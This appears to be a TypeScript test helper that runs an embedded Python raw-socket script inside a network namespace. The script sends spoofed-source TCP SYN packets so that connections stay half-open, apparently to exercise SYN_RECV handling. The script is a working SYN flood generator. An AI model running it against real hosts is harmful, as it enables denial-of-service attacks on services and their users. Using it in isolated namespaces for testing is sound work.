// Traffic no socket API makes: raw SYNs from an address nobody answers for.
import type { Netns } from './namespaces';

/**
 * Sends `count` bare SYNs to host:port from `source`, an address that is
 * routed back into the namespace but assigned to nothing: the SYN-ACKs are
 * lost, and the requests stay half-open (SYN_RECV) for the SYN-ACK retries.
 */
const SYN_FLOOD = `
import random, socket, struct, sys
source, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
src, dst = socket.inet_aton(source), socket.inet_aton(host)

def checksum(data):
    data += b"\\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for n in range(count):
    mss = struct.pack("!BBH", 2, 4, 1460)
    header = struct.pack("!HHIIBBHHH", 40000 + n, port, random.getrandbits(32), 0, 6 << 4, 0x02, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header + mss))
    tcp = header[:16] + struct.pack("!H", checksum(pseudo + header + mss)) + header[18:] + mss
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), n, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    raw.sendto(ip + tcp, (host, 0))
`;

export function synFlood(
  ns: Netns,
  options: { source: string; host: string; port: number; count: number },
): void {
  ns.run('python3', [
    '-c',
    SYN_FLOOD,
    options.source,
    options.host,
    String(options.port),
    String(options.count),
  ]);
}
